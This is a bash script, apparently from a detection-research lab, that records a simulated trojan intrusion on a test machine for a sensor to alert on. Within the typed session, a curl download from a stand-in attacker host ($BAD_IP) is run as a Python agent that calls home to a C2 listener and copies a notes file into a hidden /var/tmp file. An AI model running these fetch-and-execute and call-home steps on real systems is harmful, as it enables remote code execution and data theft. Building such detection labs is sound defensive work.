#!/bin/bash
# Records the sample inode-reuse. Run as root on a machine of your own; results in /opt/lab/out/inode-reuse.
here=$(cd "$(dirname "$0")" && pwd)
. "$here/../lib/lab.sh"
lab_begin "$here" desk-12 10.20.0.32 ""

install -d -o $OUT_UID "$RUN/attacker"
lab_agent 4443 who=id list="ls -la notes" copy="cp notes/minutes.txt /var/tmp/.i" read="cat /var/tmp/.i" > "$RUN/attacker/update.py"
lab_outside python3 "$RUN/c2.py" $BAD_IP 4443 "$RUN/seen.json" 2900606 "LAB TROJAN update call home" who list copy read
lab_outside python3 -m http.server --bind $BAD_IP --directory "$RUN/attacker" 80
sample_end() { rm -f /var/tmp/.i; }

# bob's and alice's jobs live in /var/tmp for a moment each, as the attacker's script does.
install -m 755 "$RUN/jobs.sh" $LAB/bin/jobs
lab_audit_on RAW 500 1
lab_noise_on 5
for user in bob alice; do lab_login $user "$LAB/bin/jobs $WEB_IP" & jobs="$jobs $!"; done
sleep 30
lab_terminal emi <<TYPED
2 ls notes
3 curl -s -o /var/tmp/.update.py http://$BAD_IP/update.py
2 python3 /var/tmp/.update.py
9 rm /var/tmp/.update.py
3 ls -la notes
TYPED
sleep 18
lab_noise_off
wait $jobs
lab_audit_off
python3 "$RUN/sensor.py" plain "$(ls "$RUN"/seen.json.* | head -1)" "$OUT/alert.json"
